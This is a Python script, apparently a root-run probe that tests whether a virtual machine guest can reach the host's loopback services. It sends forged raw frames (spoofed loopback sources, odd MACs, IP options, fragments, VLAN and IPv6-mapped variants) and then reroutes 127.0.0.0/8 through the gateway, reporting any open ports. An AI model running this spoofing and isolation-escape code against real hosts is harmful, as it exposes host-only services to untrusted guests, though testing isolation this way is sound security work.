"""Run as root in a guest: tries to reach the host's loopback with frames that no honest guest sends.

Arguments: the ports to try, an address of the host that may be reached (or "-"), a port there.
Prints what it sent, and OPEN for each connection that was made.
"""
import os, socket, struct, subprocess, sys

ports = [int(port) for port in sys.argv[1].split(",")]
control_address, control_port = sys.argv[2], int(sys.argv[3])
interface = next(name for name in os.listdir("/sys/class/net") if name != "lo")
with open("/sys/class/net/%s/address" % interface) as file:
    own_mac = bytes.fromhex(file.read().strip().replace(":", ""))
gateway_mac = bytes.fromhex("52550a000202")
own = socket.inet_aton("10.0.2.15")
device = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
device.bind((interface, 0))


def checksum(data):
    total = sum(struct.unpack(">%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def packet(source, target, port, protocol, ihl=5, fragment=0, from_port=40000):
    if protocol == socket.IPPROTO_TCP:
        body = struct.pack(">HHIIBBHHH", from_port, port, 1, 0, 0x50, 2, 64240, 0, 0)
        pseudo = source + target + struct.pack(">BBH", 0, protocol, len(body))
        body = body[:16] + struct.pack(">H", checksum(pseudo + body)) + body[18:]
    else:
        body = struct.pack(">HHHH", from_port, port, 8 + 4, 0) + b"hoax"
    options = b"\x01" * (ihl * 4 - 20)
    total = ihl * 4 + len(body)
    head = struct.pack(">BBHHHBBH", 0x40 | ihl, 0, total, 1, fragment, 64, protocol, 0)
    head += source + target + options
    return head[:10] + struct.pack(">H", checksum(head)) + head[12:] + body


def send(to_mac, from_mac, kind, payload):
    global sent
    sent += 1
    device.send(to_mac + from_mac + struct.pack(">H", kind) + payload)


sent = 0
if control_address != "-":
    address = socket.inet_aton(control_address)
    send(gateway_mac, own_mac, 0x0800, packet(own, address, control_port, socket.IPPROTO_TCP))
targets = ["127.0.0.1", "127.0.0.53", "127.255.255.254", "0.0.0.0", "0.0.0.1", "255.255.255.255"]
for target in map(socket.inet_aton, targets):
    for port in ports:
        for protocol in (socket.IPPROTO_TCP, socket.IPPROTO_UDP):
            for source in (own, socket.inet_aton("127.0.0.1"), socket.inet_aton("10.0.2.99")):
                for from_mac in (own_mac, b"\x02\0\0\0\0\x77"):
                    for to_mac in (gateway_mac, b"\xff" * 6):
                        for ihl, fragment in ((5, 0), (6, 0), (5, 0x2000)):
                            forged = packet(source, target, port, protocol, ihl, fragment, 1024 + sent)
                            send(to_mac, from_mac, 0x0800, forged)
        segment = packet(own, target, port, socket.IPPROTO_TCP)
        send(gateway_mac, own_mac, 0x8100, b"\0\x01\x08\0" + segment)
        for six in (bytes(15) + b"\x01", bytes(10) + b"\xff\xff" + target):
            head = struct.pack(">IHBB", 6 << 28, 20, socket.IPPROTO_TCP, 64) + six + six
            send(gateway_mac, own_mac, 0x86DD, head + segment[20:])
print("sent", sent)

# The kernel's own way: 127.0.0.0/8 is no longer local, and routed like any other network.
for command in (
    "sysctl -qw net.ipv4.conf.all.route_localnet=1",
    "ip addr del 127.0.0.1/8 dev lo",
    "ip route flush table local 127.0.0.0/8",
    "ip route add 127.0.0.0/8 via 10.0.2.2 dev %s src 10.0.2.15" % interface,
):
    subprocess.run(command.split(), capture_output=True)
route = subprocess.run("ip route get 127.0.0.1".split(), capture_output=True, text=True).stdout
print("routed" if "via 10.0.2.2" in route else "not routed: " + route)
attempts = []
for address in ("127.0.0.1", "10.0.2.2", "10.0.2.3"):
    for port in ports:
        attempt = socket.socket()
        attempt.setblocking(False)
        attempt.bind(("10.0.2.15", 0))
        attempt.connect_ex((address, port))
        attempts.append((attempt, address, port))
subprocess.run(["sleep", "3"])
for attempt, address, port in attempts:
    try:
        print("OPEN", address, port, attempt.getpeername())
    except OSError:
        pass
